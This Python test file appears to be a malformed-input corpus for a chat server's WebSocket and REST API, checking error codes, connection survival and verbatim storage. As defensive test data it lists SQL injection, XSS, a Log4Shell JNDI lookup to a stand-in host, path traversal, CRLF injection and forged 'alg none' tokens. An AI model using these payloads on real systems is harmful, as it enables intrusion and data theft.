# SPDX-License-Identifier: MIT
"""Malformed input corpus: application-level frames and REST bodies that a hostile or broken
client sends. Each case gets its documented error (docs/PROTOCOL.md, docs/API.md); a WebSocket
stays open and answers afterwards (a bad frame never closes the connection after
authentication); the server never crashes; nothing invalid is stored (check_store).

Hostile but valid text (SQL, HTML, template and path payloads) is stored byte for byte and
read back unchanged.
"""

import json

from wsclient import API_KEY, TEXT, Closed, frame, mint_token, ping_json


class Failure(Exception):
    pass


class Case:
    def __init__(self, cid, desc, kind="malformed", **extra):
        self.id = cid
        self.desc = desc
        self.kind = kind
        self.xfail_qt = None
        self.extra = extra


# Valid hostile texts: each is sent to user 2 (WebSocket) and must come back unchanged.
HOSTILE_TEXTS = [
    "'; DROP TABLE messages; --",
    "\" OR 1=1 --",
    "Robert'); DROP TABLE users;--",
    "1; DELETE FROM stream_entries WHERE 1=1",
    "' UNION SELECT password_hash FROM users --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "</textarea><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=y",
    "\u202egnp.exe",
    "null",
    "\\u0000 escaped NUL text",
    "emoji 😀 and 你好 and κόσμε",
    "a\ttab\nnewline\rreturn",
]

TOO_LONG = "x" * 8193  # max_content_chars is 8192
MAX_OK = "y" * 8192


def deep(n, leaf=1):
    return "[" * n + json.dumps(leaf) + "]" * n


def cases():
    out = []

    def ws(cid, desc, text, expect, msg_id=None, admin=False):
        """`text`: a dict (sent as JSON) or raw bytes/str. `expect`: ("error", CODE),
        ("reply", TYPE), ("close", CODE) or ("none",)."""
        if isinstance(text, dict):
            text = json.dumps(text, ensure_ascii=False)
        if isinstance(text, str):
            text = text.encode()
        out.append(Case(cid, desc, channel="ws", text=text, expect=expect, msg_id=msg_id,
                        admin=admin))

    def rest(cid, desc, method, path, body, status, code=None, token="user"):
        if isinstance(body, (dict, list)):
            body = json.dumps(body, ensure_ascii=False).encode()
        elif isinstance(body, str):
            body = body.encode()
        out.append(Case(cid, desc, channel="rest", method=method, path=path, body=body,
                        status=status, code=code, token=token))

    V, T, U, N, F, C = ("VALIDATION_ERROR", "TOO_LARGE", "UNKNOWN_MESSAGE_TYPE", "NOT_FOUND",
                        "FORBIDDEN", "CONFLICT")
    J = "INVALID_JSON"

    # M1 Bad JSON: INVALID_JSON, the connection stays.
    bad_json = ["{", "}", "[]", "[{\"type\":\"ping\"}]", "\"ping\"", "42", "null", "true",
                "{\"type\":\"ping\",}", "{'type':'ping'}", "{\"type\":\"ping\"",
                "{\"type\":\"ping\"}}", "{\"type\":\"ping\"} {}", "{\"type\" \"ping\"}",
                "{type:\"ping\"}", "{\"type\":\"ping\",\"id\":NaN}", "{\"type\":\"ping\"]",
                "{\"type\":\"ping", "   ", "{\"type\":\"ping\",\"id\":01}",
                "{\"type\":\"ping\",\"id\":+1}", "{\"type\":\"ping\",\"id\":-}",
                "{\"type\":\"ping\",\"id\":\"\\ud800\"", "\u00a0{}", "{\"a\":[1,2,]}",
                deep(5000), "{\"type\":\"ping\"}\x00"]
    for i, text in enumerate(bad_json):
        ws("M1.%d" % (i + 1), "bad JSON %r: INVALID_JSON" % text[:30], text, ("error", J))

    # M2 The envelope: type and id.
    for i, t in enumerate([None, 1, True, [], {}, ["ping"]]):
        body = {"id": "t%d" % i} if t is None else {"type": t, "id": "t%d" % i}
        ws("M2.%d" % (i + 1), "type %r: VALIDATION_ERROR" % (t,), body, ("error", V),
           msg_id="t%d" % i)
    unknown = ["", "pingg", "PING", "Ping", " ping", "ping ", "send\u0000", "x" * 5000,
               "__proto__", "constructor", "<script>alert(1)</script>",
               "'; DROP TABLE messages;--", "pong", "error", "connected", "sync_complete",
               "admin_event", "room_message_", "history\n", "😀"]
    for i, t in enumerate(unknown):
        ws("M2.%d" % (i + 7), "unknown type %r: UNKNOWN_MESSAGE_TYPE" % t[:20],
           {"type": t, "id": "u%d" % i}, ("error", U), msg_id="u%d" % i)
    for i, bad_id in enumerate([{}, [], True, False, "i" * 129, [1]]):
        ws("M2.%d" % (i + 27), "id %r: VALIDATION_ERROR" % (str(bad_id)[:20],),
           {"type": "ping", "id": bad_id}, ("error", V))
    for i, good_id in enumerate(["i" * 128, 0, -1, 1.5, 9007199254740993, "", "😀" * 10,
                                 "<b>id</b>"]):
        ws("M2.%d" % (i + 33), "id %r is echoed" % (str(good_id)[:20],),
           {"type": "ping", "id": good_id}, ("reply", "pong"), msg_id=good_id)

    # M3 send: recipient, content, data, idempotency key.
    for i, to in enumerate([None, 0, -1, "abc", 1.5, True, [], {}, "9" * 30, "",
                            9007199254740993, 1e300, "0x10"]):
        body = {"type": "send", "id": "s%d" % i, "content": "hi"}
        if to is not None:
            body["to"] = to
        ws("M3.%d" % (i + 1), "send to %r: VALIDATION_ERROR" % (to,), body, ("error", V),
           msg_id="s%d" % i)
    fields = [({"content": 5}, V), ({"content": ["a"]}, V), ({"content": True}, V),
              ({"data": "x"}, V), ({"data": [1]}, V), ({"data": 5}, V), ({}, V),
              ({"content": ""}, V), ({"content": "hi", "idempotency_key": 5}, V),
              ({"content": "hi", "idempotency_key": "k" * 129}, V),
              ({"content": TOO_LONG}, T), ({"content": "", "data": None}, V)]
    for i, (extra, code) in enumerate(fields):
        body = {"type": "send", "id": "f%d" % i, "to": 2}
        body.update(extra)
        ws("M3.%d" % (i + 16), "send with %s: %s" % (str(extra)[:40], code), body,
           ("error", code), msg_id="f%d" % i)
    ws("M3.28", "send with data nested 5000 deep: INVALID_JSON",
       '{"type":"send","to":2,"data":{"a":' + deep(5000) + '}}', ("error", J))
    ws("M3.29", "broadcast with content 5: VALIDATION_ERROR",
       {"type": "broadcast", "id": "b1", "content": 5}, ("error", V), msg_id="b1")
    ws("M3.30", "broadcast without admin role: FORBIDDEN",
       {"type": "broadcast", "id": "b2", "content": "hi"}, ("error", F), msg_id="b2")
    ws("M3.31", "broadcast with nothing: VALIDATION_ERROR", {"type": "broadcast", "id": "b3"},
       ("error", V), msg_id="b3")

    # M4 notify.
    notify = [({"to": "x", "title": "t"}, V), ({"to": 2, "title": 5}, V),
              ({"to": 2}, V), ({"to": 2, "message": "m", "data": []}, V),
              ({"to": 2, "message": "m", "priority": 1}, V),
              ({"to": 2, "message": "m", "link": {}}, V),
              ({"title": "to everyone without admin"}, F),
              ({"to": -3, "title": "t"}, V)]
    for i, (extra, code) in enumerate(notify):
        body = {"type": "notify", "id": "n%d" % i}
        body.update(extra)
        ws("M4.%d" % (i + 1), "notify %s: %s" % (str(extra)[:40], code), body,
           ("error", code), msg_id="n%d" % i)

    # M5 rooms.
    bad_rooms = ["", "has space", "a/b", "r" * 65, "../../etc", "<b>", "'; DROP TABLE rooms;--",
                 "é", "room\n", "a.b", 5, None, [], "%2e%2e"]
    for i, rid in enumerate(bad_rooms):
        # Without room_id a string `id` names the room (seed 003): a number does not.
        body = {"type": "room_create", "id": "r%d" % i if rid is not None else i}
        if rid is not None:
            body["room_id"] = rid
        ws("M5.%d" % (i + 1), "room_create with room_id %r: VALIDATION_ERROR" % (rid,), body,
           ("error", V), msg_id=body["id"])
    settings = [{"name": "n" * 101}, {"description": "d" * 1001}, {"private": "yes"},
                {"post_policy": "nobody"}, {"max_members": -1}, {"max_members": "x"},
                {"announce_membership": "no"}, {"name": 5}, {"max_members": 1.5}]
    for i, s in enumerate(settings):
        body = {"type": "room_create", "id": "rs%d" % i, "room_id": "ok_room_%d" % i}
        body.update(s)
        ws("M5.%d" % (i + 15), "room_create with %s: VALIDATION_ERROR" % str(s)[:40], body,
           ("error", V), msg_id="rs%d" % i)
    ws("M5.24", "room_join of an unknown room: NOT_FOUND",
       {"type": "room_join", "id": "j1", "room_id": "no_such_room"}, ("error", N), msg_id="j1")
    ws("M5.25", "room_join without room_id: VALIDATION_ERROR", {"type": "room_join", "id": "j2"},
       ("error", V), msg_id="j2")
    ws("M5.26", "room_leave of a room not joined: CONFLICT",
       {"type": "room_leave", "id": "j3", "room_id": "support"}, ("error", C), msg_id="j3")
    ws("M5.27", "room_send to an unknown room: NOT_FOUND",
       {"type": "room_send", "id": "j4", "room_id": "no_such_room", "content": "x"},
       ("error", N), msg_id="j4")
    ws("M5.28", "room_send without content: VALIDATION_ERROR",
       {"type": "room_send", "id": "j5", "room_id": "general"}, ("error", V), msg_id="j5")
    ws("M5.29", "room_send to a room not joined: FORBIDDEN",
       {"type": "room_send", "id": "j6", "room_id": "support", "content": "x"}, ("error", F),
       msg_id="j6")
    ws("M5.30", "room_get of an unknown room: NOT_FOUND",
       {"type": "room_get", "id": "j7", "room_id": "no_such_room"}, ("error", N), msg_id="j7")
    ws("M5.31", "room_delete of a room not owned: FORBIDDEN",
       {"type": "room_delete", "id": "j8", "room_id": "general"}, ("error", F), msg_id="j8")
    ws("M5.32", "room_create of an existing room: CONFLICT",
       {"type": "room_create", "id": "j9", "room_id": "general"}, ("error", C), msg_id="j9")
    ws("M5.33", "room_invite with user_id 'x': VALIDATION_ERROR",
       {"type": "room_invite", "id": "j10", "room_id": "general", "user_id": "x"}, ("error", V),
       msg_id="j10")
    ws("M5.34", "room_update of an unknown room: NOT_FOUND",
       {"type": "room_update", "id": "j11", "room_id": "no_such_room", "name": "x"},
       ("error", N), msg_id="j11")

    # M6 presence, typing, history, admin.
    for i, s in enumerate([{"status": "sleeping"}, {"status": 5}, {},
                           {"status": "away", "data": "x"},
                           {"status": "away", "data": {"k": "v" * 5000}}]):
        body = {"type": "presence", "id": "p%d" % i}
        body.update(s)
        code = T if i == 4 else V
        ws("M6.%d" % (i + 1), "presence %s: %s" % (str(s)[:40], code), body, ("error", code),
           msg_id="p%d" % i)
    for i, q in enumerate([{"user_ids": []}, {"user_ids": list(range(1, 502))},
                           {"user_ids": "1,2"}, {"user_ids": [0]}, {"user_ids": ["x"]}, {}]):
        body = {"type": "presence_query", "id": "q%d" % i}
        body.update(q)
        ws("M6.%d" % (i + 6), "presence_query %s: VALIDATION_ERROR" % str(q)[:40], body,
           ("error", V), msg_id="q%d" % i)
    for i, t in enumerate([{"context": "no such context!"}, {"context": 5}, {"context": "room:"},
                           {"context": "user:x"}, {}, {"room_id": "general", "is_typing": "y"}]):
        body = {"type": "typing", "id": "ty%d" % i}
        body.update(t)
        ws("M6.%d" % (i + 12), "typing %s: VALIDATION_ERROR" % str(t)[:40], body, ("error", V),
           msg_id="ty%d" % i)
    for i, h in enumerate([{"limit": 0}, {"limit": 1001}, {"limit": "x"}, {"before": "x"},
                           {"with": 0}, {"with": "x"}, {"after": -1}, {"limit": 1.5}]):
        body = {"type": "history", "id": "h%d" % i}
        body.update(h)
        ws("M6.%d" % (i + 18), "history %s: VALIDATION_ERROR" % str(h)[:40], body, ("error", V),
           msg_id="h%d" % i)
    ws("M6.26", "history of an unknown room: NOT_FOUND",
       {"type": "history", "id": "h9", "room_id": "no_such_room"}, ("error", N), msg_id="h9")
    ws("M6.27", "admin_subscribe without the admin role: FORBIDDEN",
       {"type": "admin_subscribe", "id": "a1"}, ("error", F), msg_id="a1")
    ws("M6.28", "admin_subscribe with stats_interval_ms 10: VALIDATION_ERROR",
       {"type": "admin_subscribe", "id": "a2", "stats_interval_ms": 10}, ("error", V),
       msg_id="a2", admin=True)
    ws("M6.29", "refresh without token: VALIDATION_ERROR", {"type": "refresh", "id": "a3"},
       ("error", V), msg_id="a3")
    ws("M6.30", "refresh with a forged token: UNAUTHORIZED",
       {"type": "refresh", "id": "a4", "token": "a.b.c"}, ("error", "UNAUTHORIZED"),
       msg_id="a4")

    # M7 every seed dialect with broken fields.
    seeds = [
        ({"message_type": "text", "data": "x"}, V),
        ({"message_type": "text", "data": {"content": "hi", "to_user_id": "abc"}}, V),
        ({"message_type": "text", "data": {"content": 5, "to_user_id": 2}}, V),
        ({"message_type": "text", "data": {"to_user_id": 2}}, V),
        ({"message_type": "text", "data": {"content": "to everyone"}}, F),
        ({"message_type": "notification", "data": {"to_user_id": 2}}, V),
        ({"message_type": "teleport", "data": {}}, U),
        ({"message_type": 5, "data": {}}, V),
        ({"message_type": "text", "data": {"content": TOO_LONG, "to_user_id": 2}}, T),
        ({"type": "message", "to_user_id": "x", "message": "hi"}, V),
        ({"type": "message", "to_user_id": 2, "message": 5}, V),
        ({"type": "message", "to_user_id": 2}, V),
        ({"type": "message", "to_user_id": 0, "message": "hi"}, V),
        ({"type": "message", "message": "hi"}, V),
        ({"type": "chat", "to": "abc", "content": "hi"}, V),
        ({"type": "chat", "to": "", "content": "to everyone"}, F),
        ({"type": "chat", "to": "2", "content": 5}, V),
        ({"type": "chat", "to": "2"}, V),
        ({"type": "chat", "to": [], "content": "x"}, V),
        ({"type": "room_message", "content": "x"}, V),
        ({"type": "room_message", "room_id": "no_such_room", "content": "x"}, N),
        ({"type": "room_message", "room_id": "general", "content": 5}, V),
        ({"type": "room_message", "room_id": "bad id", "content": "x"}, V),
        ({"type": "notification", "to": 2}, V),
        ({"type": "notification", "to": "x", "title": "t"}, V),
        ({"type": "notification", "to": 2, "message": ["m"]}, V),
    ]
    for i, (body, code) in enumerate(seeds):
        body = dict(body)
        body["id"] = "seed%d" % i
        ws("M7.%d" % (i + 1), "seed frame %s: %s" % (json.dumps(body)[:50], code), body,
           ("error", code), msg_id="seed%d" % i)
    ws("M7.27", "seed 000 ping", {"message_type": "ping", "data": {}, "id": "sp"},
       ("reply", "pong"), msg_id="sp")
    ws("M7.28", "seed 002 ping", {"type": "ping", "id": "sp2"}, ("reply", "pong"), msg_id="sp2")

    # M8 valid hostile text is stored as sent (read back in check_store).
    for i, text in enumerate(HOSTILE_TEXTS):
        ws("M8.%d" % (i + 1), "hostile text %r is stored verbatim" % text[:30],
           {"type": "send", "id": "h%d" % i, "to": 2, "content": text}, ("reply", "ack"),
           msg_id="h%d" % i)
    ws("M8.19", "content of exactly max_content_chars is stored",
       {"type": "send", "id": "max", "to": 2, "content": MAX_OK}, ("reply", "ack"), msg_id="max")
    ws("M8.20", "data nested 100 deep is stored",
       '{"type":"send","id":"deep","to":2,"data":{"a":' + deep(100) + '}}', ("reply", "ack"),
       msg_id="deep")

    # R REST: bodies, parameters and credentials.
    msgs = "/api/v1/messages"
    for i, body in enumerate(["{", "[]", "null", "42", "\"s\"", "{\"to_user_id\":2,}",
                              deep(5000), "{\"to_user_id\":2,\"content\":\"x\"} trailing"]):
        rest("R1.%d" % (i + 1), "POST messages with body %r: 400 INVALID_JSON" % body[:20],
             "POST", msgs, body, 400, J)
    bad_bodies = [{"content": "x"}, {"to_user_id": "x", "content": "x"},
                  {"to_user_id": 0, "content": "x"}, {"to_user_id": -5, "content": "x"},
                  {"to_user_id": 1.5, "content": "x"}, {"to_user_id": True, "content": "x"},
                  {"to_user_id": 2, "content": 5}, {"to_user_id": 2},
                  {"to_user_id": 2, "data": [1]}, {"to_user_id": 2, "content": ""},
                  {"to_user_id": [2], "content": "x"}]
    for i, body in enumerate(bad_bodies):
        rest("R2.%d" % (i + 1), "POST messages %s: 400 VALIDATION_ERROR" % str(body)[:40],
             "POST", msgs, body, 400, V)
    rest("R2.13", "POST messages with content over max_content_chars: 413", "POST", msgs,
         {"to_user_id": 2, "content": TOO_LONG}, 413, T)
    rest("R2.14", "POST messages with a 2 MiB body: 413", "POST", msgs,
         b'{"to_user_id":2,"content":"' + b"z" * (2 << 20) + b'"}', 413, T)
    for i, (tok, status, code) in enumerate([("none", 401, "UNAUTHORIZED"),
                                             ("garbage", 401, "UNAUTHORIZED"),
                                             ("expired", 401, "TOKEN_EXPIRED"),
                                             ("forged", 401, "UNAUTHORIZED"),
                                             ("alg_none", 401, "UNAUTHORIZED")]):
        rest("R3.%d" % (i + 1), "POST messages with a %s credential: %d" % (tok, status),
             "POST", msgs, {"to_user_id": 2, "content": "x"}, status, code, token=tok)
    rooms = "/api/v1/rooms"
    for i, rid in enumerate(["", "has space", "a/b", "r" * 65, "<b>", "'; DROP TABLE rooms;--",
                             5, None]):
        body = {"name": "x"}
        if rid is not None:
            body["room_id"] = rid
        rest("R4.%d" % (i + 1), "POST rooms with room_id %r: 400" % (rid,), "POST", rooms, body,
             400, V)
    for i, s in enumerate([{"name": "n" * 101}, {"description": "d" * 1001},
                           {"post_policy": "nobody"}, {"private": "yes"}, {"max_members": -1}]):
        body = {"room_id": "rest_room_%d" % i}
        body.update(s)
        rest("R4.%d" % (i + 9), "POST rooms with %s: 400" % str(s)[:30], "POST", rooms, body,
             400, V)
    rest("R4.14", "POST rooms with an existing id: 409", "POST", rooms, {"room_id": "general"},
         409, C)
    rest("R4.15", "POST rooms/{unknown}/messages: 404", "POST",
         rooms + "/no_such_room/messages", {"content": "x"}, 404, N)
    rest("R4.16", "POST rooms/general/messages without content: 400", "POST",
         rooms + "/general/messages", {}, 400, V)
    login = "/api/v1/users/login"
    for i, body in enumerate(["{", {"username": "x"}, {"password": "x"},
                              {"username": 5, "password": "x"}, {"username": "x", "password": []}]):
        code = J if i == 0 else V
        rest("R5.%d" % (i + 1), "login with %s: 400 %s" % (str(body)[:30], code), "POST", login,
             body, 400, code, token="none")
    rest("R5.6", "login of an unknown user: 401", "POST", login,
         {"username": "' OR 1=1 --", "password": "x"}, 401, "UNAUTHORIZED", token="none")
    users = "/api/v1/users"
    for i, name in enumerate(["", "a b", "u" * 65, "<script>", "'; DROP TABLE users;--", 5,
                              "ünïcode"]):
        rest("R6.%d" % (i + 1), "create user %r: 400" % (name,), "POST", users,
             {"username": name, "password": "long enough password"}, 400, V, token="api")
    rest("R6.8", "create user with a short password: 400", "POST", users,
         {"username": "shortpw", "password": "x"}, 400, V, token="api")
    rest("R6.9", "create user without admin: 403", "POST", users,
         {"username": "nobody", "password": "long enough password"}, 403, F)
    for i, q in enumerate(["limit=-1", "limit=1001", "limit=abc", "after=x", "after=-1"]):
        rest("R7.%d" % (i + 1), "GET messages?%s: 400" % q, "GET", msgs + "?" + q, None, 400, V)
    for i, q in enumerate(["user_ids=", "user_ids=a,b", "user_ids=" + ",".join(
            str(x) for x in range(1, 502)), "user_ids=0", "room_id=no_such_room"]):
        status, code = (404, N) if q.startswith("room_id") else (400, V)
        rest("R7.%d" % (i + 6), "GET presence?%s: %d" % (q[:30], status), "GET",
             "/api/v1/presence?" + q, None, status, code)
    rest("R7.11", "GET status/abc: 400", "GET", "/api/v1/status/abc", None, 400, V)
    rest("R7.12", "GET status/0: 400", "GET", "/api/v1/status/0", None, 400, V)
    send = "/api/v1/send"
    for i, body in enumerate([{"message_type": "text", "content": "x"},
                              {"to_user_id": "x", "content": "x"},
                              {"to_user_id": 2, "message_type": "text"},
                              {"to_user_id": 2, "message_type": "text", "content": 5},
                              {"to_user_id": 2, "message_type": "notification",
                               "data": "x"}]):
        rest("R8.%d" % (i + 1), "POST send %s: 400" % str(body)[:40], "POST", send, body, 400, V,
             token="api")
    bc = "/api/v1/broadcast"
    for i, (body, status, code) in enumerate([({}, 400, V), ({"content": 5}, 400, V),
                                              ({"target": "moon", "message": "x"}, 400, V),
                                              ({"target": "room", "room_id": "no_such_room",
                                                "message": "x"}, 404, N),
                                              ({"target": "user", "user_id": "x",
                                                "message": "x"}, 400, V),
                                              ({"content": TOO_LONG}, 413, T),
                                              ({"target": "all", "kind": "weird",
                                                "message": "x"}, 400, V)]):
        rest("R9.%d" % (i + 1), "POST broadcast %s: %d" % (str(body)[:40], status), "POST", bc,
             body, status, code, token="api")
    rest("R9.8", "POST broadcast as a plain user: 403", "POST", bc, {"content": "x"}, 403, F)
    rest("R10.1", "DELETE messages: 405", "DELETE", msgs, None, 405, "METHOD_NOT_ALLOWED")
    rest("R10.2", "an unknown path: 404", "GET", "/api/v1/nothing-here", None, 404, N)
    rest("R10.3", "an unknown path with SQL: 404", "GET",
         "/api/v1/rooms/x'%20OR%201=1--/nothing", None, 404, N)
    return out


def _token(kind):
    if kind == "user":
        return mint_token(1)
    if kind == "api":
        return API_KEY
    if kind == "none":
        return None
    if kind == "garbage":
        return "not-a-token"
    if kind == "expired":
        return mint_token(1, ttl=-3600)
    if kind == "forged":
        return mint_token(1, secret="another-secret-" * 4)
    if kind == "alg_none":
        return mint_token(1, header={"alg": "none", "typ": "JWT"}).rsplit(".", 1)[0] + "."
    raise ValueError(kind)


def run_case(d, case):
    e = case.extra
    if e["channel"] == "rest":
        status, body = d.http(e["method"], e["path"], e["body"], token=_token(e["token"]))
        if status != e["status"]:
            raise Failure("expected HTTP %d, got %d %r" % (e["status"], status, str(body)[:200]))
        if e["code"]:
            code = body.get("error", {}).get("code") if isinstance(body, dict) else None
            if code != e["code"]:
                raise Failure("expected %s, got %r" % (e["code"], str(body)[:200]))
        return
    c = d.connect(sub=1, admin=e["admin"])
    try:
        c.send(frame(TEXT, e["text"]))
        kind = e["expect"][0]
        f = c.recv_frame(8.0)
        if f is None:
            raise Failure("no answer")
        if f[0] != TEXT:
            raise Failure("expected %r, got opcode %d %r" % (e["expect"], f[0], f[1][:100]))
        msg = json.loads(f[1])
        if kind == "error":
            if msg.get("type") != "error" or msg.get("code") != e["expect"][1]:
                raise Failure("expected error %s, got %s" % (e["expect"][1], str(msg)[:200]))
        elif kind == "reply":
            if msg.get("type") != e["expect"][1]:
                raise Failure("expected %s, got %s" % (e["expect"][1], str(msg)[:200]))
        if e["msg_id"] is not None and msg.get("id") != e["msg_id"]:
            raise Failure("the answer's id is %r, not %r" % (msg.get("id"), e["msg_id"]))
        if e["msg_id"] is None and kind == "error" and "id" in msg and msg["id"] is not None:
            raise Failure("an id %r echoed from a frame that had no valid one" % (msg["id"],))
        # The connection goes on.
        c.send(frame(TEXT, ping_json("alive")))
        while True:
            f = c.recv_frame(8.0)
            if f is None:
                raise Failure("no answer after the bad frame: the connection is stuck")
            if f[0] == TEXT and json.loads(f[1]).get("type") == "pong":
                if json.loads(f[1]).get("id") != "alive":
                    raise Failure("a pong for another frame: %r" % f[1][:100])
                break
            if f[0] == TEXT:
                raise Failure("an unexpected frame after the answer: %r" % f[1][:200])
    except Closed:
        raise Failure("the connection was closed; a bad frame must not close it")
    finally:
        c.close()


def prepare(d):
    """User 2, the recipient of the valid texts, is a backend's user: it signs in once (a user
    that never signed in and has no account is no recipient)."""
    status, body = d.http("GET", "/api/v1/rooms", token=mint_token(2))
    if status != 200:
        raise RuntimeError("signing in user 2: HTTP %d %r" % (status, str(body)[:200]))


def check_store(d):
    """Only the valid messages were stored: user 2's inbox holds exactly the M8 texts."""
    status, body = d.http("GET", "/api/v1/messages?user_id=2&limit=1000")
    if status != 200:
        return "reading user 2's inbox: HTTP %d %r" % (status, str(body)[:200])
    got = [m.get("content") or "" for m in body.get("messages", [])]
    want = HOSTILE_TEXTS + [MAX_OK, ""]
    if len(got) != len(want):
        return "user 2's inbox holds %d messages, expected %d: %r" % (len(got), len(want),
                                                                     [str(g)[:20] for g in got])
    for g, w in zip(got, want):
        if g != w:
            return "stored %r, sent %r" % (g[:60], w[:60])
    status, body = d.http("GET", "/api/v1/stats")
    if status == 200 and body.get("messages_stored") != len(want):
        return "messages_stored is %r, expected %d" % (body.get("messages_stored"), len(want))
    return None
